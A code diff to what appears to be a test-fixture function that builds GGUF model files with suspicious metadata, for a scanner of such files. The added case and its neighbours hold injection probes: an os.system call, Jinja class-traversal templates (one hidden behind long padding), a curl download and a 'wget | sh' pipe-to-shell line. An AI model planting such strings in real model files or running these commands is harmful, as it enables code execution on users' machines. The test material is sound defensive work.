@@ -129,6 +129,7 @@ def gguf_metadata_cases() -> dict[str, tuple[str, bytes]]:
         "template_behind_text": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.description", 8, gguf_string("a" * 70_000 + "{{ ''.__class__ }}"))], [tensor], whole)),
         "command": ("GGUF-TEXT", gguf_bytes([key, gguf_key("download", 8, gguf_string("curl -o /tmp/x https://example.org/x"))], [tensor], whole)),
         "command_for_a_shell": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.url", 8, gguf_string("see: wget -q x | sh"))], [tensor], whole)),
+        "code_in_metadata": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.url", 8, gguf_string("__import__('os').system('id')"))], [tensor], whole)),
         "list_of_templates": ("GGUF-TEXT", gguf_bytes([key, gguf_array("tokenizer.chat_templates", 8, 1, gguf_string("{{ x.__class__ }}"))], [tensor], whole)),
         "template_in_array": ("GGUF-TEXT", gguf_bytes([key, gguf_array("tokenizer.templates", 8, 1, gguf_string("{% set x = y|attr('z') %}"))], [tensor], whole)),
     }  # fmt: skip
